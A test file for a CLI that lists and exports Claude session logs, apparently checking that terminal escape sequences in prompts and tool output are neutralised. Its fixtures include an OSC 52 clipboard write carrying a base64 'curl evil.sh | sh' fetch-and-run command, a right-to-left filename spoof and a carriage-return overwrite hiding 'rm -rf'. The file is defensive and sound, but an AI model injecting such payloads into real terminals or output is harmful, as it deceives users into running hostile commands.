import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { hookEvent, runCli, runHook, tempProject, type TempProject } from './helpers/cli.js';

// Session content is untrusted: escape sequences in prompts and tool output (a window title, a screen
// clear, an OSC 52 clipboard write, a one-byte C1 CSI, a right-to-left override, a carriage return that
// overwrites the line) must never reach the terminal through any command, nor the files learn writes.

const SESSION = 'escape-session';
const TITLE = '\u001b]0;owned\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const C1_CSI = '\u009b31m';
const RTL = 'invoice\u202etxt.exe';
const OVERWRITE = 'rm -rf /tmp/cache\rls';
const PROMPT = `why is checkout slow? ${TITLE}${CLEAR}${CLIPBOARD}${C1_CSI}${RTL} ${OVERWRITE}`;

/** Characters a terminal acts on; output may hold none of them (newline and tab aside). */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

function expectSafe(what: string, text: string): void {
  const found = UNSAFE.exec(text);
  expect(
    found
      ? `${what}: U+${found[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${found.index}: ${JSON.stringify(text.slice(Math.max(0, found.index - 30), found.index + 10))}`
      : 'safe',
  ).toBe('safe');
}

let project: TempProject;
beforeAll(async () => {
  project = tempProject('runbook-escapes-');
  const events = [
    hookEvent(SESSION, 'SessionStart', { source: 'startup' }),
    hookEvent(SESSION, 'UserPromptSubmit', { prompt: PROMPT }),
    hookEvent(SESSION, 'PostToolUse', {
      tool_name: 'Bash',
      tool_input: { command: `kubectl logs checkout ${TITLE}` },
      tool_response: {
        stdout: `ERROR ${CLEAR}${CLIPBOARD} timeout talking to db${C1_CSI} ${RTL}`,
        stderr: OVERWRITE,
        exit_code: 1,
      },
    }),
    hookEvent(SESSION, 'PostToolUseFailure', {
      tool_name: 'Bash',
      tool_input: { command: `psql -c 'select 1' ${CLIPBOARD}` },
      error: `connection refused ${TITLE}${RTL}`,
    }),
    hookEvent(SESSION, 'Stop', {}),
  ];
  for (const event of events)
    expect(await runHook(project.dir, event)).toMatchObject({ code: 0, stdout: '', stderr: '' });
});
afterAll(() => project.cleanup());

const claude = (args: string[], env: NodeJS.ProcessEnv = {}) =>
  runCli(['integrations', 'claude', ...args], { cwd: project.dir, env });

describe('no escape sequence from a session reaches the terminal', () => {
  test.each([
    ['sessions list', ['sessions', 'list']],
    ['sessions show', ['sessions', 'show', SESSION]],
    ['sessions show, coloured', ['sessions', 'show', SESSION]],
    ['learn', ['learn', SESSION, '--out', 'learned-text']],
    ['status', ['status']],
  ])('%s', async (name, args) => {
    const result = await claude(args, name.includes('coloured') ? { NO_COLOR: '', FORCE_COLOR: '1' } : {});
    expect(result.code, result.stderr).toBe(0);
    // The CLI's own colours (bold, dim, red, green, yellow, cyan and their resets) are the only sequences.
    const own = /\u001b\[(?:1|2|22|31|32|33|36|39)m/g;
    if (name.includes('coloured')) expect(result.stdout).toContain('\u001b[36m');
    expectSafe(`${name} stdout`, result.stdout.replace(own, ''));
    expectSafe(`${name} stderr`, result.stderr);
  });

  test('the prompt is shown with its escapes visible', async () => {
    const list = await claude(['sessions', 'list']);
    expect(list.stdout).toContain('why is checkout slow? \\x1b]0;owned\\x07\\x1b[2J\\x1b[H');
    const show = await claude(['sessions', 'show', SESSION]);
    expect(show.stdout).toContain('\\u009b31m');
    expect(show.stdout).toContain('invoice\\u202etxt.exe');
  });

  test.each([
    ['sessions list --json', ['sessions', 'list', '--json']],
    ['sessions show --json', ['sessions', 'show', SESSION, '--json']],
    ['sessions export --format json', ['sessions', 'export', SESSION, '--format', 'json']],
    ['sessions export', ['sessions', 'export', SESSION]],
    ['learn --json', ['learn', SESSION, '--json', '--out', 'learned-json']],
  ])('%s: safe to print, and the same values when parsed', async (name, args) => {
    const result = await claude(args);
    expect(result.code, result.stderr).toBe(0);
    expectSafe(name, result.stdout);
    const values =
      name === 'sessions export'
        ? result.stdout
            .trim()
            .split('\n')
            .map((line) => JSON.parse(line) as unknown)
        : [JSON.parse(result.stdout) as unknown];
    if (name.startsWith('sessions list')) expect(JSON.stringify(values)).toContain(JSON.stringify(PROMPT).slice(1, -1));
    if (name.startsWith('sessions export'))
      expect(JSON.stringify(values)).toContain(JSON.stringify(PROMPT).slice(1, -1));
  });

  test('an error quoting what the user typed is one neutralised line', async () => {
    const result = await claude(['sessions', 'show', `nope${TITLE}\nforged line`]);
    expect(result.code).toBe(1);
    expectSafe('stderr', result.stderr);
    expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
  });
});

test('the files learn writes hold no escape sequence', async () => {
  const result = await claude(['learn', SESSION, '--out', 'learned-files']);
  expect(result.code, result.stderr).toBe(0);
  const dir = path.join(project.dir, 'learned-files');
  const files = readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.join(e.parentPath, e.name));
  expect(files.length).toBeGreaterThan(2);
  for (const file of files) {
    const text = readFileSync(file, 'utf8');
    expectSafe(path.relative(dir, file), text.replace(/\r\n/g, '\n'));
    if (file.endsWith('.json')) JSON.parse(text);
    expect(statSync(file).mode & 0o777).toBe(0o600);
  }
});
